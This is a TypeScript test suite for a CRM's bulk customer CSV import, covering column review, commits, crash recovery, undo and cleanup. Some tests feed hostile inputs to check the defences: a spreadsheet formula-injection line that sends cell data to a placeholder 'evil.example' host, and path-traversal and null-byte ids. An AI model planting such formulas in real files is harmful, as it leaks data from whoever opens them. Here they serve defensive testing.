import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { CustomerImport, ImportRow, UndoneImport } from '#app/contract/customer-imports.ts';
import { customerImports } from '#app/db/schema/customer-imports.ts';
import { customerRecords } from '#app/db/schema/customers.ts';
import { BATCH, runImport } from '#app/services/customer-imports/run-import.ts';
import { resumeImports, sweepImports } from '#app/services/customer-imports/sweep-imports.ts';
import { createImportsApp, type ImportsApp } from '#tests/support/imports-app.ts';

let app: ImportsApp;
beforeAll(async () => {
  app = await createImportsApp();
});
afterAll(() => app.close());
beforeEach(() => app.clear());

const manyRows = (count: number) =>
  `name,email,phone\n${Array.from({ length: count }, (_, at) => `Lead ${at},l${at}@example.in,90000${10_000 + at}\n`).join('')}`;
const MIXED =
  'Full Name,E-mail ID,Mobile,Where met,Stall staff\nGurleen,gurleen@example.in,9815022145,Travel Expo,Pankaj\nArvind,arvind@,9872640012,Insta,Pankaj\nGurleen,g2@example.in,9815022145,,\n';

async function started(file: string): Promise<CustomerImport> {
  const { status, body } = await app.start(file, 'expo.csv');
  expect(status).toBe(201);
  return body;
}
const step = <Body = CustomerImport>(method: string, id: string, rest = '', body?: object) =>
  app.staff<Body>(method, `/customers/imports/${id}${rest}`, body);
const fieldsOf = ({ columns }: CustomerImport) => ({ fields: columns.map(({ field }) => field) });

async function reviewed(file: string): Promise<CustomerImport> {
  const upload = await started(file);
  return (await step('PUT', upload.id, '/columns', fieldsOf(upload))).body;
}

/** As the job does, when it gets to it. */
async function finished(file: string): Promise<CustomerImport> {
  const { id } = await reviewed(file);
  await step('POST', id, '/commit');
  await runImport(app.ctx, { importId: id });
  return (await step('GET', id)).body;
}

const fileCount = async () => {
  let count = 0;
  for await (const _ of app.ctx.files.list('imports/')) count += 1;
  return count;
};

describe('B16 step by step', () => {
  it('B16 columns are matched, the review says what would happen, and nothing is made before', async () => {
    const upload = await started(MIXED);
    expect(upload).toMatchObject({ status: 'matching', file_name: 'expo.csv', row_count: 3, header_row: 1 });
    expect(upload.columns.map(({ field }) => field)).toEqual(['name', 'email', 'phone', 'lead_source', null]);
    expect(upload.columns[3]?.samples).toEqual(['Travel Expo', 'Insta']);

    const { body } = await step('PUT', upload.id, '/columns', fieldsOf(upload));
    expect(body).toMatchObject({ status: 'reviewed', created: 1, skipped: 1, refused: 1 });
    const problems = await step<ImportRow[]>('GET', upload.id, '/rows');
    expect(problems.body).toMatchObject([
      {
        row: 3,
        verdict: 'refused',
        email: 'arvind@',
        problems: [{ field: 'email', reason: 'Email is not complete' }],
      },
      { row: 4, verdict: 'skipped', problems: [{ field: 'phone', reason: 'Same WhatsApp number as row 2' }] },
    ]);
    expect(
      (await step<ImportRow[]>('GET', upload.id, '/rows?verdict=all')).headers.get('x-total-count'),
    ).toBe('3');
    expect(await app.made()).toEqual([]);

    expect((await step('POST', upload.id, '/commit')).status).toBe(202);
    await runImport(app.ctx, { importId: upload.id });
    expect((await step('GET', upload.id)).body).toMatchObject({
      status: 'done',
      created: 1,
      skipped: 1,
      refused: 1,
      rows_done: 3,
    });
    expect(await app.made()).toMatchObject([
      { name: 'Gurleen', lead_source: 'website', notes: 'Lead source: Travel Expo' },
    ]);
  });

  it('B16 other columns are another review; required ones and double ones are refused by name', async () => {
    const upload = await started('Person,Mail,Number\nAsha,asha@example.in,9000000001\n');
    const put = (fields: unknown[]) => step('PUT', upload.id, '/columns', { fields });
    expect((await put(['name', 'email', null])).body).toMatchObject({
      code: 'invalid_input',
      detail: 'Choose the column for WhatsApp',
    });
    expect((await put(['name', 'email', 'email'])).body.detail).toBe('Email is chosen for two columns');
    expect((await put(['name', 'email'])).status).toBe(422);
    expect((await put(['name', 'email', 'salary'])).status).toBe(422);
    expect((await put(['email', 'name', 'phone'])).body).toMatchObject({ created: 0, refused: 1 });
    expect((await put(['name', 'email', 'phone'])).body).toMatchObject({ created: 1, refused: 0 });
    expect((await step<ImportRow[]>('GET', upload.id, '/rows')).body).toEqual([]);
  });

  it('B16 what was not reviewed is not run; what runs is neither reviewed nor given up', async () => {
    const upload = await started(MIXED);
    expect((await step('POST', upload.id, '/commit')).body.code).toBe('changed_meanwhile');
    expect((await step('POST', upload.id, '/undo')).body.code).toBe('already_closed');
    await step('PUT', upload.id, '/columns', fieldsOf(upload));
    await step('POST', upload.id, '/commit');
    expect((await step('PUT', upload.id, '/columns', fieldsOf(upload))).body.code).toBe('already_closed');
    expect((await step('DELETE', upload.id)).body.code).toBe('already_closed');
  });

  it('B16 an upload that is given up leaves nothing: no rows, no file', async () => {
    const upload = await reviewed(MIXED);
    expect(await fileCount()).toBe(1);
    expect((await step('DELETE', upload.id)).status).toBe(200);
    expect((await step('GET', upload.id)).status).toBe(404);
    expect(await fileCount()).toBe(0);
    const { rows } = await app.db.execute(sql`select 1 from customer_import_rows`);
    expect(rows).toEqual([]);
  });

  it.each(['nobody', 'imp_\u0000', '%2e%2e%2f'])('B16 an upload %j does not exist', async (id) => {
    for (const [method, rest] of [
      ['GET', ''],
      ['DELETE', ''],
      ['POST', '/commit'],
      ['POST', '/undo'],
      ['GET', '/rows'],
      ['GET', '/rejects'],
    ])
      expect((await step(method ?? '', encodeURIComponent(id), rest)).status).toBe(404);
  });
});

describe('IMP-17 once, whatever happens', () => {
  it('IMP-17 a second commit, and a second job at the same time, make nobody twice', async () => {
    const { id } = await reviewed(manyRows(900));
    const commits = await Promise.all([1, 2, 3].map(() => step('POST', id, '/commit')));
    expect(commits.map(({ status }) => status)).toEqual([202, 202, 202]);
    expect(
      app.jobs.filter(
        ({ name, data }) => name === 'import.run' && 'importId' in data && data.importId === id,
      ),
    ).toHaveLength(1);
    await Promise.all([1, 2, 3].map(() => runImport(app.ctx, { importId: id })));
    await runImport(app.ctx, { importId: id });
    expect((await step('POST', id, '/commit')).body).toMatchObject({
      status: 'done',
      created: 900,
      skipped: 0,
    });
    expect(await app.made()).toHaveLength(900);
  });

  it('IMP-17 a crash in the middle loses nothing: the next job goes on where it stopped', async () => {
    const { id } = await reviewed(manyRows(900));
    await step('POST', id, '/commit');
    let batches = 0;
    const crashing = {
      ...app.ctx,
      sheets: {
        ...app.ctx.sheets,
        async *judge(...args: Parameters<typeof app.ctx.sheets.judge>) {
          for await (const batch of app.ctx.sheets.judge(...args)) {
            batches += 1;
            if (batches === 3) throw new Error('the lights went out');
            yield batch;
          }
        },
      },
    };
    await expect(runImport(crashing, { importId: id })).rejects.toThrow('lights');
    const halfway = (await step('GET', id)).body;
    expect(halfway).toMatchObject({ status: 'running', rows_done: 2 * BATCH, created: 2 * BATCH });
    expect(await app.made()).toHaveLength(2 * BATCH);

    await app.db.execute(sql`update customer_imports set updated_at = updated_at - interval '2 minutes'`);
    const before = app.jobs.length;
    expect(await resumeImports(app.ctx)).toBe(1);
    expect(app.jobs.slice(before)).toEqual([{ name: 'import.run', data: { importId: id } }]);
    await runImport(app.ctx, { importId: id });
    expect((await step('GET', id)).body).toMatchObject({
      status: 'done',
      created: 900,
      skipped: 0,
      refused: 0,
    });
    expect(await app.made()).toHaveLength(900);
    expect(await fileCount()).toBe(0);
  });
});

describe('the rows that were left out', () => {
  it('IMP-13 SEC-03 the file of them is safe in a spreadsheet, and mended it goes through', async () => {
    const file =
      'name,email,phone,notes\n"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",evil@,+919000000009,@SUM(1+1)\n"Ravi ""R"" Rao",ravi@,9000000002,"-2+3\nand more"\n';
    const done = await finished(file);
    const { status, headers, text } = await app.text(`/customers/imports/${done.id}/rejects`);
    expect([status, headers.get('content-disposition')]).toEqual([
      200,
      'attachment; filename="customers-to-mend.csv"',
    ]);
    expect(text.startsWith('\uFEFFRow in file,What is wrong,name,email,phone,notes\r\n')).toBe(true);
    expect(text).toContain(`2,Email is not complete,"'=HYPERLINK(`);
    expect(text).toContain(`,'+919000000009,'@SUM(1+1)\r\n`);
    expect(text).toContain(`"'-2+3\nand more"`);

    const mended = await app.upload(
      text.replaceAll('evil@', 'evil@example.in').replaceAll('ravi@', 'ravi@example.in'),
    );
    expect(mended.body).toMatchObject({ created: 2, skipped: 0, errors: [] });
    expect(await app.made()).toMatchObject([
      { name: 'Ravi "R" Rao', notes: '-2+3\nand more' },
      {
        name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        phone: '+919000000009',
        notes: '@SUM(1+1)',
      },
    ]);
  });

  it('SEC-03 B16 the template is a CSV whose columns are all known, and makes nobody as it is', async () => {
    const { status, headers, text } = await app.text('/customers/bulk-upload/template');
    expect([status, headers.get('content-type')]).toEqual([200, expect.stringContaining('text/csv')]);
    expect(text.split('\r\n')[0]).toBe(
      '\uFEFFname,email,phone,country,city,travel_interests,preferred_destination,lead_source,budget_range,next_follow_up_date,notes',
    );
    expect(text).not.toMatch(/(^|,)[=+@-]/m);
    const upload = await started(text);
    expect(upload.columns.filter(({ field }) => field === null)).toEqual([]);
    expect((await app.upload(text)).body).toMatchObject({ created: 0, skipped: 1, errors: [] });
  });
});

describe('B16 the way back', () => {
  it('B16 an undo takes back who was not touched, names who stays, and is done once', async () => {
    const done = await finished(`${manyRows(4)}`);
    const { rows } = await app.db.execute<{ id: string; name: string }>(
      sql`select id, name from customers order by name`,
    );
    const [first, second, third] = rows;
    await app.call(first?.id ?? '', { call_outcome: 'interested', notes: 'Likes Goa' });
    await app.staff('PUT', `/customers/${second?.id}/move`, { target_list: 'hot_list' });
    await app.db
      .insert(customerRecords)
      .values({ customerId: third?.id ?? '', kind: 'inquiry', recordId: 'inq_1' });
    const stranger = await app.add();

    const undone = await step<UndoneImport>('POST', done.id, '/undo');
    expect(undone.body).toMatchObject({
      status: 'undone',
      undone: 1,
      kept: 3,
      kept_customers: [
        { name: 'Lead 0', reason: 'A call was logged' },
        { name: 'Lead 1', reason: 'Changed since' },
        { name: 'Lead 2', reason: expect.stringContaining('Linked to') },
      ],
    });
    expect((await step<UndoneImport>('POST', done.id, '/undo')).body).toMatchObject({ undone: 1, kept: 3 });
    expect((await app.made()).map(({ name }) => name).toSorted()).toEqual([
      stranger.name,
      'Lead 0',
      'Lead 1',
      'Lead 2',
    ]);
    expect((await step('POST', done.id, '/commit')).body.code).toBe('already_closed');
    expect((await app.upload(manyRows(4))).body).toMatchObject({ created: 1, skipped: 3 });
  });

  it('B16 the latest uploads are listed, also those of the plain call; the audit names both ends', async () => {
    await finished(MIXED);
    const plain = await app.upload(manyRows(2), 'two.csv');
    const { body } = await app.staff<CustomerImport[]>('GET', '/customers/imports');
    expect(
      Array.from(body)
        .map(({ file_name }) => file_name)
        .toSorted(),
    ).toEqual(['expo.csv', 'two.csv']);
    await step('POST', plain.body.import_id ?? '', '/undo');
    const audit = await app.db.execute<{ action: string }>(
      sql`select action from audit_log where entity_id = ${plain.body.import_id} order by created_at, action`,
    );
    expect(audit.rows.map(({ action }) => action).toSorted()).toEqual([
      'customer_import.finished',
      'customer_import.started',
      'customer_import.undone',
    ]);
  });
});

it('B16 uploads that nobody went on with, rejected rows after a week, and stray files go by themselves', async () => {
  const left = await reviewed(MIXED);
  const done = await finished(manyRows(1).replace('9000010000', '12'));
  await app.db.execute(
    sql`update customer_imports set updated_at = updated_at - interval '25 hours' where id = ${left.id}`,
  );
  await sweepImports(app.ctx);
  expect((await step('GET', left.id)).status).toBe(404);
  expect((await step<ImportRow[]>('GET', done.id, '/rows')).body).toHaveLength(1);
  await app.db.execute(sql`update customer_imports set finished_at = finished_at - interval '8 days'`);
  await sweepImports(app.ctx);
  expect((await step<ImportRow[]>('GET', done.id, '/rows')).body).toEqual([]);
  expect(await app.db.select().from(customerImports)).toHaveLength(1);
});
